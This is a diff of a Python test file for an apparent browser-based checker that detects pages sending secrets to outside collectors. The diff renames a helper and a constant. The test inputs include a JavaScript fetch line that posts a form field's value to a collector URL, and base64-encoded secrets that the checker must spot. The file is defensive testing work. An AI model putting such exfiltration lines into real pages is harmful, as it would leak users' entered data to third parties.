@@ -9,7 +9,7 @@ from urllib.parse import unquote_to_bytes
 import pytest
 
 from marketplace.checker.browser import rehearsal
-from marketplace.checker.browser.rehearsal import shapes
+from marketplace.checker.browser.rehearsal import encodings_of
 from marketplace.checker.browser.renderer import Renderer
 from marketplace.checker.browser.view import BrowserView
 from marketplace.checker.fetch.fetch import Guard
@@ -164,11 +164,11 @@ def test_of_what_a_page_says_only_a_piece_is_taken_apart_and_nothing_before_a_pa
     assert sum(apart) < 1_000
     late = on_submit("fetch('THERE/take', {method: 'POST', body: p.value + '%41'.repeat(1e6)})")
     assert visit(late).rendering.sent_to == (collector.url[:-1],)
-    assert max(apart) == rehearsal.MAX_SAID
+    assert max(apart) == rehearsal.MAX_MESSAGE
 
 
 @pytest.mark.parametrize("before", ["", "a", "ab", "abc", '{"user":"x","p":"'])
 def test_a_secret_is_known_within_base64(before: str) -> None:
     said = b64encode(f"{before}secret12/more".encode())
-    assert any(shape in said for shape in shapes("secret12"))
-    assert not any(shape in b64encode(f"{before}sekret12/more".encode()) for shape in shapes("secret12"))
+    assert any(shape in said for shape in encodings_of("secret12"))
+    assert not any(shape in b64encode(f"{before}sekret12/more".encode()) for shape in encodings_of("secret12"))
